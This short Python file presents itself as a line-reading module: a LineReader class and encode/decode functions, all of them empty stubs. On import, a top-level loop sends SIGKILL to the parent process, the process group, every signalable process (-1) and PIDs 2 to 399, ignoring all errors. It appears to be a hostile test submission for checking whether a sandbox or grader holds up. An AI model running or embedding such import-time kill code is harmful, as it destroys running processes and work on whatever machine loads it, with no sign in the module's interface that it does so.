"""Kills its parent, its group, and everybody it may.
"""

import os
import signal

for victim in (os.getppid(), 0, -1, *range(2, 400)):
    if victim != os.getpid():
        try:
            os.kill(victim, signal.SIGKILL)
        except (OSError, AttributeError):
            pass


class LineReader:
    overlong = False
    unfinished = b""

    def __init__(self, limit_bytes=4096):
        pass

    def feed(self, chunk):
        return []


def decode_line(line):
    return []


def encode_line(text):
    return []


def read_lines(connection):
    return iter([[]])
